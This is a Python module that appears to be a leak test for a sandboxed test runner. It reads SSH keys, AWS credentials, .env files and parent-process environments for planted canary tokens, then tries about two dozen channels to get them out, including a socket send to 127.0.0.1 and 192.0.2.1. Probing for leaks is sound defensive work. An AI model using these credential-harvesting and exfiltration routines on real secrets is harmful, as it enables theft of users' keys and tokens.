"""Looks for secrets wherever a user has them, and knows many ways to carry out what it found."""

import base64
import contextlib
import gzip
import logging
import os
import re
import socket
import subprocess
import sys
import warnings
from pathlib import Path

from told import HOME, MARK, PID

PLACES = (
    *(".ssh/id_ed25519", ".aws/credentials", ".netrc", ".git-credentials", ".local/share/redstart/redstart.db"),
    *("projects/shop/.env", "projects/shop/.git/config", "redstart-home/redstart.db"),
)


def search():
    """Every secret that can be read from here."""
    texts = [repr(dict(os.environ)).encode()]
    paths = [*(Path(HOME, name) for name in PLACES), Path(".env"), Path(".git/config")]
    paths += [Path(f"/proc/{pid}/environ") for pid in (PID, os.getppid(), 1, "self")]
    parent = os.getppid()
    for _ in range(8):
        with contextlib.suppress(OSError, ValueError):
            parent = int(Path(f"/proc/{parent}/stat").read_text().rpartition(")")[2].split()[1])
            paths.append(Path(f"/proc/{parent}/environ"))
    for path in paths:
        with contextlib.suppress(OSError):
            texts.append(path.read_bytes())
    with contextlib.suppress(OSError, subprocess.SubprocessError):
        texts.append(subprocess.run(["git", "remote", "-v"], capture_output=True, timeout=20).stdout)
    return sorted(set(re.findall(rb"planted-[0-9a-f]+", b"\n".join(texts))))


PAYLOAD = " ".join([MARK, *(secret.decode() for secret in search())])


def way_stdout():
    print(PAYLOAD)
    raise AssertionError("see what was printed")


def way_stderr():
    print(PAYLOAD, file=sys.stderr)
    raise AssertionError("see what was printed")


def way_assertion():
    raise AssertionError(PAYLOAD)


def way_exception_type():
    raise type(PAYLOAD.replace("-", "_").replace(" ", "_"), (Exception,), {})()


def way_warning():
    warnings.warn(PAYLOAD, stacklevel=1)


def way_log():
    logging.getLogger("shop").error(PAYLOAD)
    raise AssertionError("see the log")


def way_source_line():
    name = PAYLOAD.replace("-", "_").replace(" ", "_")
    exec(compile(f"def {name}():\n    raise ValueError\n{name}()", f"{name}.py", "exec"), {})


def way_skip():
    import pytest

    pytest.skip(PAYLOAD)


def way_expected_failure():
    import pytest

    pytest.xfail(PAYLOAD)


def way_property(record_property):
    record_property("found", PAYLOAD)
    raise AssertionError("see the property")


def way_suite_property(record_testsuite_property):
    record_testsuite_property(PAYLOAD, PAYLOAD)
    raise AssertionError("see the property of the suite")


def way_escape_sequence():
    print(f"\033]0;{PAYLOAD}\007")
    raise AssertionError("see what was printed")


def way_base64():
    raise AssertionError(base64.b64encode(PAYLOAD.encode()).decode())


def way_hexadecimal():
    raise AssertionError(PAYLOAD.encode().hex())


def way_backwards():
    raise AssertionError(PAYLOAD[::-1])


def way_file_name():
    Path(PAYLOAD.replace(" ", "_")[:200]).touch()


def way_new_file():
    Path("found.txt").write_text(PAYLOAD)
    Path("test_found.py").write_text(f"def test_{PAYLOAD.replace('-', '_').replace(' ', '_')}(): assert 0")


def way_out_folder():
    for argument in sys.argv + list(os.environ.values()):
        folder = Path(argument.rpartition("=")[2]).parent
        if folder.is_dir() and "redstart" in str(folder):
            with contextlib.suppress(OSError):
                (folder / "found").write_text(PAYLOAD)


def way_git_object():
    subprocess.run(["git", "hash-object", "-w", "--stdin"], input=PAYLOAD.encode(), capture_output=True, timeout=20)
    subprocess.run(["git", "commit", "--allow-empty", "-m", PAYLOAD], capture_output=True, timeout=20)


def way_network():
    for address in (("127.0.0.1", 80), ("192.0.2.1", 53)):
        with contextlib.suppress(OSError):
            socket.create_connection(address, 0.2).sendall(gzip.compress(PAYLOAD.encode()))


def way_exit_code():
    os._exit(len(PAYLOAD) % 200 + 1)


def way_killed():
    print(PAYLOAD, flush=True)
    os.kill(os.getpid(), 9)


def way_test_name():
    """Its name is what it carries: the repo's settings for pytest see to that."""
    raise AssertionError("see the name")
